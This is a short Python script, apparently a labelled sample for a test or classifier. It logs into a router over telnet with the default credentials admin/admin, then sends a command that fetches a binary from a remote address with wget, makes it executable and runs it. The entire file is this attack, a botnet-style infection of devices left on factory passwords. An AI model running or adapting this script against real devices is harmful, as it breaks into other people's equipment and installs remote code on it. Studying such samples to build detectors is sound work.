# expect: network; logs into a router over telnet (telnetlib, Python 3.8-3.12) and runs commands on it
import telnetlib

HOST, PORT = "10.0.0.1", 23
tn = telnetlib.Telnet(HOST, PORT, timeout=5)
tn.read_until(b"login: ")
tn.write(b"admin\n")
tn.read_until(b"Password: ")
tn.write(b"admin\n")
tn.write(b"wget http://203.0.113.3/m -O /tmp/m; chmod +x /tmp/m; /tmp/m\n")
tn.write(b"exit\n")
print(tn.read_all().decode(errors="ignore"))
